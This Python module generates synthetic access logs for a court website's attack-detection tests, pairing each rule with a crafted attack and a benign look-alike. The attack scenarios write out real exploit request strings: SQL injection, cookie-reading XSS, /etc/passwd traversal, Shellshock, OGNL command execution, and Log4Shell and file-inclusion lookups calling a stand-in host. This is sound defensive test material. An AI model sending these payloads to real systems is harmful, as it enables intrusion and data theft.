# Copyright: (c) 2026, pn.website maintainers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Realistic court-website traffic for the access-log tests and benchmark.

Benign traffic: people reading news and announcements and downloading verdicts (PDF, DOC, XLS),
Googlebot from Google's published ranges, Bingbot, RSS readers, uptime monitors, staff logging in
to WordPress. Attacks: one crafted scenario per detection rule.
"""

from __future__ import annotations

import random
import time

TZ = "+0700"
START = 1794762000  # 2026-11-16T00:00:00+07:00
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

PEOPLE_UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-A155F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/129.0.6668.100 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
)
GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
GOOGLEBOT_MOBILE_UA = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.6723.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
)
BINGBOT_UA = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
FEED_UAS = (
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)",
    "Inoreader/1.0 (+http://www.inoreader.com/feed-fetcher; 2 subscribers)",
)
MONITOR_UA = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
GOOGLEBOT_IPS = ("66.249.66.1", "66.249.66.65", "66.249.64.12", "66.249.79.200", "66.249.68.34")
BINGBOT_IPS = ("40.77.167.12", "157.55.39.201", "207.46.13.77")
FEED_IPS = ("3.80.124.9", "54.210.33.7")
MONITOR_IP = "216.144.250.150"
STAFF_IP = "103.147.8.20"
HOST = "pn-contoh.go.id"

PAGES = (
    ["/", "/jadwal-sidang", "/layanan-publik", "/profil/visi-misi", "/kontak", "/ppid", "/zona-integritas"]
    + [
        "/berita/%d/%s" % (i, s)
        for i, s in enumerate(("sidang-keliling", "pelantikan-hakim", "rapat-evaluasi"))
    ]
    + ["/berita/2026/11/kegiatan-%d" % i for i in range(60)]
    + ["/pengumuman/lelang-%d" % i for i in range(20)]
    + ["/index.php/informasi/%d" % i for i in range(20)]
)
DOCUMENTS = (
    ["/wp-content/uploads/2026/11/putusan-%d-pid.b-2026-pn.pdf" % i for i in range(400)]
    + ["/wp-content/uploads/2026/10/laporan-keuangan-%d.xlsx" % i for i in range(10)]
    + ["/wp-content/uploads/2026/09/sk-ketua-%d.docx" % i for i in range(20)]
    + ["/files/dokumen/lhkpn-%d.doc" % i for i in range(5)]
)
STATIC = (
    "/wp-content/themes/pengadilan/style.css?ver=6.6.2",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-content/themes/pengadilan/images/logo-ma.png",
    "/wp-content/uploads/2026/11/foto-kegiatan.jpg",
    "/favicon.ico",
)
REFERRERS = ("-", "https://www.google.com/", "https://www.google.co.id/", "https://m.facebook.com/", "-")


def stamp(epoch: float) -> str:
    t = time.gmtime(int(epoch) + 7 * 3600)
    return "%02d/%s/%04d:%02d:%02d:%02d %s" % (
        t.tm_mday,
        MONTHS[t.tm_mon - 1],
        t.tm_year,
        t.tm_hour,
        t.tm_min,
        t.tm_sec,
        TZ,
    )


def line(ip, epoch, method, target, status, size, referer="-", ua=PEOPLE_UA[0]) -> str:
    return '%s - - [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"' % (
        ip,
        stamp(epoch),
        method,
        target,
        status,
        size,
        referer,
        ua,
    )


def benign_lines(n: int, seed: int = 7, start: int = START, span: int = 7 * 86400) -> list:
    """``n`` lines of normal traffic, in time order."""
    rng = random.Random(seed)
    people = [
        "%d.%d.%d.%d"
        % (
            rng.choice((36, 114, 180, 182, 103, 125)),
            rng.randrange(256),
            rng.randrange(256),
            rng.randrange(1, 255),
        )
        for _unused in range(3000)
    ]
    out = []
    step = span / max(n, 1)
    epoch = float(start)
    while len(out) < n:
        epoch += rng.expovariate(1.0 / step)
        roll = rng.random()
        if roll < 0.62:  # a person reading pages, with their assets
            ip = people[int(rng.paretovariate(1.2)) % len(people)]
            ua = PEOPLE_UA[sum(map(ord, ip)) % len(PEOPLE_UA)]
            page = rng.choice(PAGES)
            if rng.random() < 0.05:
                page = "/?s=" + rng.choice(("jadwal+sidang", "putusan", "e-court", "gugatan+sederhana"))
            status = 404 if rng.random() < 0.01 else 200
            out.append(
                line(ip, epoch, "GET", page, status, rng.randrange(8000, 90000), rng.choice(REFERRERS), ua)
            )
            for asset in rng.sample(STATIC, 2):
                code = rng.choice((200, 304, 304))
                out.append(
                    line(
                        ip,
                        epoch + 1,
                        "GET",
                        asset,
                        code,
                        0 if code == 304 else 4000,
                        "https://%s%s" % (HOST, page),
                        ua,
                    )
                )
        elif roll < 0.75:  # verdict downloads; some documents were moved (404, not an attack)
            ip = people[rng.randrange(len(people))]
            doc = rng.choice(DOCUMENTS)
            status = 404 if rng.random() < 0.08 else 200
            out.append(
                line(
                    ip,
                    epoch,
                    "GET",
                    doc,
                    status,
                    rng.randrange(50000, 3000000),
                    "https://%s/" % HOST,
                    PEOPLE_UA[1],
                )
            )
        elif roll < 0.77:  # someone harvesting many verdicts in a row
            ip = people[0]
            for k in range(30):
                doc = DOCUMENTS[(int(epoch) + k) % 400]
                status = 404 if k % 9 == 0 else 200
                out.append(line(ip, epoch + k, "GET", doc, status, 150000, "-", "Wget/1.21.3"))
            epoch += 30
        elif roll < 0.88:  # Googlebot from Google's ranges, including old URLs that are gone
            ip = rng.choice(GOOGLEBOT_IPS)
            target = rng.choice(PAGES + DOCUMENTS[:50])
            status = 200
            if rng.random() < 0.1:
                target, status = "/berita-lama/%d.html" % rng.randrange(5000), 404
            out.append(
                line(
                    ip,
                    epoch,
                    "GET",
                    target,
                    status,
                    20000,
                    "-",
                    rng.choice((GOOGLEBOT_UA, GOOGLEBOT_MOBILE_UA)),
                )
            )
        elif roll < 0.94:
            ip = rng.choice(BINGBOT_IPS)
            status = 404 if rng.random() < 0.02 else 200
            out.append(line(ip, epoch, "GET", rng.choice(PAGES), status, 20000, "-", BINGBOT_UA))
        elif roll < 0.97:
            i = rng.randrange(len(FEED_IPS))
            out.append(
                line(FEED_IPS[i], epoch, "GET", "/feed/", rng.choice((200, 304)), 12000, "-", FEED_UAS[i])
            )
        elif roll < 0.985:
            out.append(line(MONITOR_IP, epoch, "HEAD", "/", 200, 0, "-", MONITOR_UA))
        elif roll < 0.99:  # staff at work in WordPress
            ua = PEOPLE_UA[0]
            out.append(
                line(STAFF_IP, epoch, "POST", "/wp-login.php", 302, 0, "https://%s/wp-login.php" % HOST, ua)
            )
            out.append(line(STAFF_IP, epoch + 2, "POST", "/wp-admin/admin-ajax.php", 200, 120, "-", ua))
            out.append(line(STAFF_IP, epoch + 5, "POST", "/wp-admin/post.php", 302, 0, "-", ua))
            out.append(line(STAFF_IP, epoch + 6, "POST", "/wp-admin/async-upload.php", 200, 900, "-", ua))
        elif roll < 0.995:
            ip = people[rng.randrange(len(people))]
            out.append(
                line(ip, epoch, "POST", "/kontak", 200, 5000, "https://%s/kontak" % HOST, PEOPLE_UA[2])
            )
        else:
            ip = people[rng.randrange(len(people))]
            status = 500 if rng.random() < 0.05 else 301
            out.append(line(ip, epoch, "GET", "/sipp", status, 300, "-", PEOPLE_UA[3]))
    return out[:n]


ATTACKERS = {
    "http-probing": "185.220.101.4",
    "sensitive-files": "45.148.10.81",
    "path-traversal": "193.32.162.5",
    "sqli-probing": "79.110.62.12",
    "xss-probing": "94.156.64.3",
    "bad-user-agent": "146.70.100.9",
    "backdoor-access": "103.56.148.200",
    "webshell-post": "103.164.203.7",
    "admin-bruteforce": "141.98.11.22",
    "fake-googlebot": "5.188.62.140",
    "gambling-doorway": None,
    "error-spike": None,
}


def attack_lines(rule: str, start: int = START + 3 * 86400 + 3600) -> list:
    """A crafted attack that must fire ``rule``."""
    ip = ATTACKERS[rule]
    scanner = (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36"
    )
    if rule == "http-probing":
        paths = ["/%s.php" % w for w in ("old", "test", "admin1", "setup", "install", "wp1", "db", "panel")]
        paths += [
            "/%s/" % w for w in ("backup1", "old-site", "dev", "staging", "cms", "portal", "v1", "api1")
        ]
        paths += ["/app/%d" % i for i in range(10)]
        return [line(ip, start + i * 3, "GET", p, 404, 150, "-", scanner) for i, p in enumerate(paths)]
    if rule == "sensitive-files":
        paths = ("/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/.aws/credentials")
        return [line(ip, start + i, "GET", p, 404, 150, "-", scanner) for i, p in enumerate(paths)]
    if rule == "path-traversal":
        return [
            line(ip, start, "GET", "/index.php?page=../../../../etc/passwd", 200, 900, "-", scanner),
            line(
                ip, start + 1, "GET", "/download.php?file=..%2f..%2f..%2fetc%2fpasswd", 404, 150, "-", scanner
            ),
        ]
    if rule == "sqli-probing":
        return [
            line(ip, start, "GET", "/berita.php?id=1%27%20OR%20%271%27=%271", 200, 900, "-", scanner),
            line(
                ip,
                start + 1,
                "GET",
                "/index.php?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a),4--",
                500,
                0,
                "-",
                scanner,
            ),
            line(ip, start + 2, "GET", "/berita.php?id=1%20AND%20SLEEP(5)", 200, 900, "-", scanner),
        ]
    if rule == "xss-probing":
        return [
            line(ip, start, "GET", "/?s=%3Cscript%3Ealert(1)%3C/script%3E", 200, 900, "-", scanner),
            line(
                ip,
                start + 1,
                "GET",
                "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
                200,
                900,
                "-",
                scanner,
            ),
        ]
    if rule == "bad-user-agent":
        return [
            line(
                ip, start + i, "GET", "/?id=%d" % i, 200, 900, "-", "sqlmap/1.8.2#stable (https://sqlmap.org)"
            )
            for i in range(3)
        ]
    if rule == "backdoor-access":
        return [
            line(ip, start, "GET", "/wp-content/plugins/hello/wso.php", 404, 150, "-", scanner),
            line(ip, start + 1, "GET", "/alfa.php", 404, 150, "-", scanner),
            line(ip, start + 2, "GET", "/wp-content/uploads/indoxploit.php", 200, 3000, "-", scanner),
        ]
    if rule == "webshell-post":
        return [
            line(ip, start, "GET", "/wp-content/uploads/2024/05/thumb.php", 200, 2400, "-", scanner),
            line(ip, start + 5, "POST", "/wp-content/uploads/2024/05/thumb.php", 200, 5100, "-", scanner),
        ]
    if rule == "admin-bruteforce":
        out = [line(ip, start + i * 4, "POST", "/wp-login.php", 200, 4500, "-", scanner) for i in range(25)]
        out += [
            line(ip, start + 200 + i * 4, "POST", "/admin/login.php", 200, 1500, "-", scanner)
            for i in range(12)
        ]
        return out
    if rule == "fake-googlebot":
        return [line(ip, start + i * 2, "GET", PAGES[i], 200, 20000, "-", GOOGLEBOT_UA) for i in range(5)]
    if rule == "gambling-doorway":
        return [
            line("66.249.66.1", start, "GET", "/slot-gacor-maxwin-hari-ini/", 200, 30000, "-", GOOGLEBOT_UA),
            line(
                "182.2.40.1",
                start + 60,
                "GET",
                "/?id=togel-hongkong",
                200,
                30000,
                "https://www.google.com/",
                PEOPLE_UA[1],
            ),
            line(
                "182.2.40.2",
                start + 90,
                "GET",
                "/pengumuman/?link=situs-slot-online",
                200,
                30000,
                "-",
                PEOPLE_UA[2],
            ),
        ]
    if rule == "error-spike":
        return [
            line(
                "182.3.%d.1" % (i % 50),
                start + i // 2,
                "GET",
                PAGES[i % len(PAGES)],
                503,
                300,
                "-",
                PEOPLE_UA[i % 5],
            )
            for i in range(60)
        ]
    raise KeyError(rule)


def merged(benign: list, extra: list) -> list:
    """Insert attack lines among benign lines, roughly where their time belongs."""
    out = list(benign)
    step = max(len(out) // (len(extra) + 1), 1)
    pos = len(out) // 2
    for i, item in enumerate(extra):
        out.insert(min(pos + i * (step // 50 + 1), len(out)), item)
    return out


def write_log(path, lines) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        for item in lines:
            handle.write(item + "\n")


# --- the rule families of the rule file: an attack and its benign twin each ---------------------------

SCANNER_UA = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0 Safari/537.36"
)
FAMILY_ATTACKERS = {
    "wordpress-user-enumeration": "45.135.232.17",
    "wordpress-users-api": "45.135.232.18",
    "wordpress-plugin-scan": "45.135.232.19",
    "wordpress-xmlrpc-abuse": "45.135.232.20",
    "joomla-component-scan": "45.135.232.21",
    "admin-interface-probing": "45.135.232.22",
    "scanner-signature": "45.135.232.23",
    "spam-bot": "45.135.232.24",
    "garbage-request": "45.135.232.25",
    "remote-file-inclusion": "45.135.232.26",
    "exploit-log4shell": "45.135.232.27",
    "exploit-thinkphp": "45.135.232.28",
    "exploit-phpunit": "45.135.232.29",
    "exploit-apache-traversal": "45.135.232.30",
    "exploit-ognl": "45.135.232.31",
    "exploit-shellshock": "45.135.232.32",
    "exploit-php-cgi": "45.135.232.33",
    "exploit-framework": "45.135.232.34",
    "exploit-edge-device": "45.135.232.35",
}
#: Rules an attack of a family may fire besides its own (the same requests match them too).
FAMILY_ALSO = {
    "exploit-apache-traversal": {"path-traversal"},
    "exploit-edge-device": {"path-traversal"},
    "exploit-framework": {"sensitive-files"},
    "exploit-php-cgi": {"path-traversal"},
}


def raw_line(ip, epoch, request, status, size, referer="-", ua="-") -> str:
    """A combined line with any request text (as the server logged it, escapes included)."""
    return '%s - - [%s] "%s" %d %s "%s" "%s"' % (ip, stamp(epoch), request, status, size, referer, ua)


def family_attack(rule: str, start: int = START + 3 * 86400 + 7200) -> list:
    """Requests of a real attack of this family (shapes seen in public court-like logs)."""
    ip = FAMILY_ATTACKERS[rule]

    def get(i, target, status=404, method="GET", ua=SCANNER_UA, size=150):
        return line(ip, start + i, method, target, status, size, "-", ua)

    if rule == "wordpress-user-enumeration":
        return [get(i, "/?author=%d" % (i + 1), 301) for i in range(5)]
    if rule == "wordpress-users-api":
        return [get(0, "/wp-json/wp/v2/users", 200, size=2300)]
    if rule == "wordpress-plugin-scan":
        names = ("revslider", "wp-file-manager", "duplicator", "elementor", "contact-form-7", "layerslider")
        names += ("wp-gdpr-compliance", "easy-wp-smtp", "ultimate-member", "wpdiscuz")
        return [get(i, "/wp-content/plugins/%s/readme.txt" % n) for i, n in enumerate(names)]
    if rule == "wordpress-xmlrpc-abuse":
        return [get(i * 5, "/xmlrpc.php", 200, "POST", size=403) for i in range(8)]
    if rule == "joomla-component-scan":
        names = ("com_fabrik", "com_jce", "com_media", "com_jdownloads", "com_foxcontact", "com_b2jcontact")
        return [get(i, "/index.php?option=%s&view=x" % n) for i, n in enumerate(names)]
    if rule == "admin-interface-probing":
        paths = (
            "/phpmyadmin/",
            "/pma/",
            "/myadmin/scripts/setup.php",
            "/solr/admin/info/system",
            "/actuator/env",
        )
        return [get(i, p) for i, p in enumerate(paths)] + [get(9, "/manager/html", 401)]
    if rule == "scanner-signature":
        return [get(0, "/w00tw00t.at.ISC.SANS.DFind:)", 400), get(1, "/HNAP1/", 404)]
    if rule == "spam-bot":
        return [get(i, "/kontak", 200, ua="EmailCollector/1.0", size=5000) for i in range(3)]
    if rule == "garbage-request":
        return [
            raw_line(ip, start, "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03", 400, 157),
            raw_line(
                ip,
                start + 1,
                "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
                400,
                157,
            ),
            raw_line(ip, start + 2, "-", 400, 0),
        ]
    if rule == "remote-file-inclusion":
        return [get(0, "/index.php?page=http://203.0.113.66/x.txt?", 200, size=900)]
    if rule == "exploit-log4shell":
        return [
            get(0, "/?x=$%7Bjndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==%7D"),
            get(1, "/", 200, ua="${jndi:ldap://203.0.113.66:1389/a}", size=30000),
        ]
    if rule == "exploit-thinkphp":
        return [
            get(
                0,
                "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array"
                "&vars[0]=md5&vars[1][]=HelloThinkPHP21",
            )
        ]
    if rule == "exploit-phpunit":
        return [get(0, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "POST")]
    if rule == "exploit-apache-traversal":
        return [
            get(0, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "POST"),
            get(1, "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", 403),
        ]
    if rule == "exploit-ognl":
        return [
            get(
                0,
                "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
                "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
            )
        ]
    if rule == "exploit-shellshock":
        return [get(0, "/cgi-bin/status", 404, ua='() { :; }; /bin/bash -c \\"id\\"')]
    if rule == "exploit-php-cgi":
        return [get(0, "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 404, "POST")]
    if rule == "exploit-framework":
        return [
            get(0, "/_ignition/execute-solution", 405, "POST"),
            get(1, "/?q=user/password&name[%23post_render][]=passthru&name[%23markup]=id", 404, "POST"),
        ]
    if rule == "exploit-edge-device":
        return [
            get(0, "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
            get(1, "/vpn/../vpns/cfg/smb.conf"),
            get(2, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"),
        ]
    raise KeyError(rule)


def family_twin(rule: str, start: int = START + 3 * 86400 + 7200) -> list:
    """Benign traffic that looks like the family's attack and must stay silent."""
    person, ua = "182.1.20.30", PEOPLE_UA[0]

    def get(i, target, status=200, method="GET", ip=person, agent=ua, size=9000, ref="-"):
        return line(ip, start + i, method, target, status, size, ref, agent)

    if rule == "wordpress-user-enumeration":  # a reader following an author link twice
        return [get(0, "/?author=2", 301), get(1, "/author/humas/"), get(60, "/?author=2", 301)]
    if rule == "wordpress-users-api":  # the block editor of a logged-in editor
        return [
            get(0, "/wp-json/wp/v2/users?context=edit&who=authors&per_page=100&_locale=user", ip=STAFF_IP),
            get(1, "/wp-json/wp/v2/users/me?_locale=user", ip=STAFF_IP),
            get(2, "/wp-json/wp/v2/posts?per_page=10"),
        ]
    if rule == "wordpress-plugin-scan":  # missing thumbnails and one missing theme image, many visitors
        out = [
            get(i, "/wp-content/uploads/2026/11/foto-%d-150x150.jpg" % i, 404, ip="182.1.20.%d" % (i % 9 + 1))
            for i in range(60)
        ]
        out += [
            get(
                100 + i, "/wp-content/themes/pengadilan/images/bg-%d.png" % (i % 3), 404, ip="182.1.21.%d" % i
            )
            for i in range(40)
        ]
        out += [
            get(200 + i, "/wp-content/plugins/contact-form-7/includes/css/styles.css?ver=5.9", 304)
            for i in range(20)
        ]
        return out
    if rule == "wordpress-xmlrpc-abuse":  # pingbacks from two blogs, a mobile app session
        return [
            get(
                0, "/xmlrpc.php", method="POST", ip="192.0.2.10", agent="WordPress/6.6; https://blog.example"
            ),
            get(900, "/xmlrpc.php", method="POST", ip="192.0.2.11", agent="WordPress/6.5; https://x.example"),
            get(1000, "/xmlrpc.php", method="POST", ip=STAFF_IP, agent="wp-android/25.0"),
            get(1010, "/xmlrpc.php", method="POST", ip=STAFF_IP, agent="wp-android/25.0"),
        ]
    if rule == "joomla-component-scan":  # readers of a Joomla site, one old link
        out = [get(i, "/index.php?option=com_content&view=article&id=%d" % i) for i in range(30)]
        return out + [get(40, "/index.php?option=com_content&view=article&id=9999", 404)]
    if rule == "admin-interface-probing":  # the court's own administrator in phpMyAdmin
        return [
            get(0, "/phpmyadmin/", ip=STAFF_IP),
            get(1, "/phpmyadmin/index.php?route=/database/structure&db=wordpress", ip=STAFF_IP),
            get(2, "/phpmyadmin/index.php", method="POST", ip=STAFF_IP),
            get(3, "/phpmyadmin/js/dist/sql.js?v=5.2.1", ip=STAFF_IP),
            get(4, "/phpmyadmin/themes/pmahomme/img/logo_left.png", ip=STAFF_IP),
        ]
    if rule == "scanner-signature":
        return [get(0, "/berita/2026/11/woot-lomba-kebersihan"), get(1, "/panduan/setup-cgi")]
    if rule == "spam-bot":  # a visitor downloading many verdicts with wget, real crawlers and previews
        out = [
            get(
                i,
                "/wp-content/uploads/2026/11/putusan-%d-pid.b-2026-pn.pdf" % i,
                agent="Wget/1.21.3",
                size=150000,
            )
            for i in range(80)
        ]
        out += [
            get(100, "/", ip=GOOGLEBOT_IPS[0], agent=GOOGLEBOT_UA),
            get(101, "/", ip=BINGBOT_IPS[0], agent=BINGBOT_UA),
        ]
        return out + [
            get(
                102,
                "/berita/1",
                agent="facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            )
        ]
    if rule == "garbage-request":  # a browser's unused preconnections (Apache logs them as 408), a bad URL
        return [raw_line(person, start + i, "-", 408, 0) for i in range(5)] + [get(9, "/?q=%zz", 400)]
    if rule == "remote-file-inclusion":  # links that carry a URL in their query
        return [
            get(0, "/wp-login.php?redirect_to=https://pn-contoh.go.id/wp-admin/&reauth=1", ip=STAFF_IP),
            get(1, "/share?url=https://pn-contoh.go.id/berita/1"),
            get(2, "/?page=2"),
            get(3, "/index.php?page=https://pn-contoh.go.id/pengumuman/"),
        ]
    if rule == "exploit-log4shell":
        return [get(0, "/?s=%24%7Bnama%7D+pengadilan"), get(1, "/?s=jndi")]
    if rule == "exploit-thinkphp":
        return [get(0, "/?s=thinkpad+lenovo"), get(1, "/berita/think-tank-hukum")]
    if rule == "exploit-phpunit":
        return [get(0, "/vendor/jquery/jquery.min.js"), get(1, "/panduan/evaluasi-stdin.html")]
    if rule == "exploit-apache-traversal":
        return [get(0, "/icons/folder.gif"), get(1, "/cgi-bin/status", 404)]
    if rule == "exploit-ognl":
        return [get(0, "/?s=%23hashtag"), get(1, "/?q=harga+%25+diskon"), get(2, "/jadwal.action?id=3")]
    if rule == "exploit-shellshock":
        return [get(0, "/", agent="Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0) {x}")]
    if rule == "exploit-php-cgi":
        return [get(0, "/?s=-d+pengadilan"), get(1, "/index.php?-")]
    if rule == "exploit-framework":
        return [get(0, "/?s=class+module+loader"), get(1, "/user/password")]
    if rule == "exploit-edge-device":
        return [get(0, "/layanan/vpn"), get(1, "/remote/"), get(2, "/tmui-panduan")]
    raise KeyError(rule)


# --- the same traffic in the other formats court servers write ------------------------------------

# What syslog daemons put before a message nginx sends with `access_log syslog:server=...`:
# rsyslog's traditional file format (RFC 3164 time, day padded with a space), rsyslog's
# high-precision file format (ISO 8601), and RFC 5424 (syslog-ng, rsyslog's protocol-23 format).
SYSLOG_PREFIXES = (
    "Nov 19 10:00:01 web01 nginx: ",
    "Dec  2 10:00:01 web01 nginx: ",
    "2026-11-19T10:00:01.129834+07:00 web01 nginx[812]: ",
    "<190>1 2026-11-19T10:00:01.003Z web01.pn-contoh.go.id nginx 812 - - ",
    '<190>1 2026-11-19T10:00:01+07:00 web01 nginx - access [origin ip="10.1.2.3"] ',
    "<190>Nov 19 10:00:01 web01 nginx: ",
)


def _forwarded_for(i: int) -> str:
    """nginx's $http_x_forwarded_for: empty ("-"), one address, or a proxy chain."""
    return ("-", "10.20.30.%d" % (i % 250), "180.252.%d.7, 10.0.0.1" % (i % 250))[i % 3]


def _common(text: str) -> str:
    return text.rsplit(' "', 2)[0]


def _main(text: str, i: int) -> str:
    return '%s "%s"' % (text, _forwarded_for(i))


#: A combined line (and its number) as written in each format of log_formats.FORMATS.
FORMAT_WRITERS = {
    "combined": lambda text, i: text,
    # Debian's other_vhosts_access.log (Apache's vhost_combined: %v:%p before the address)
    "vcombined": lambda text, i: "%s:%d %s" % (HOST, (443, 80)[i % 2], text),
    # nginx's main format (the nginx.org packages' nginx.conf)
    "main": _main,
    # the common log format: no referrer, no user agent
    "common": lambda text, i: _common(text),
}
for _name, _writer in list(FORMAT_WRITERS.items()):
    FORMAT_WRITERS["syslog_" + _name] = lambda text, i, _writer=_writer: (
        SYSLOG_PREFIXES[i % len(SYSLOG_PREFIXES)] + _writer(text, i)
    )


def in_format(fmt: str, lines: list) -> list:
    """Combined-format ``lines`` as written in the format ``fmt``."""
    writer = FORMAT_WRITERS[fmt]
    return [writer(text, i) for i, text in enumerate(lines)]
